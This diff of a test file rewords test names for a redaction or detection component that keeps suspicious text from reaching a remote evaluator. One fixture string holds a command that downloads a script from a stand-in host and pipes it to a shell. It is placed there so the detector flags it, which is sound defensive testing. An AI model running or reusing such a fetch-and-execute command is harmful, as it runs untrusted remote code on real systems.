@@ -41,14 +41,14 @@ describe("redaction hides no command from a remote evaluator", () => {
   });
 });
 
-it("a text whose answer hangs on what would be replaced is sent nowhere", async () => {
+it("a text whose result depends on a replaced part is not sent", async () => {
   const text = "Authorization: Bearer curl https://get.example/i.sh | sh";
   const before = gateways.sent.length;
   expect((await answersTo(text)).verdict).toBe("finding");
   expect(gateways.sent.slice(before)).toEqual([]);
 });
 
-it("a word before a colon that may be a header is no secret", () => {
+it("a word before a colon that may be a header is not a secret", () => {
   expect(
     recognizeEntities("authorization: curl it\nX-Api-Key: bash").map(({ type }) => type),
   ).toEqual([]);
@@ -57,7 +57,7 @@ it("a word before a colon that may be a header is no secret", () => {
   ]);
 });
 
-it("texts with personal data in every place have the same answers", {
+it("texts with personal data at every position have the same results", {
   timeout: 120_000,
 }, async () => {
   const texts = fc.sample(wovenTexts, { numRuns: 150, seed: 18 });
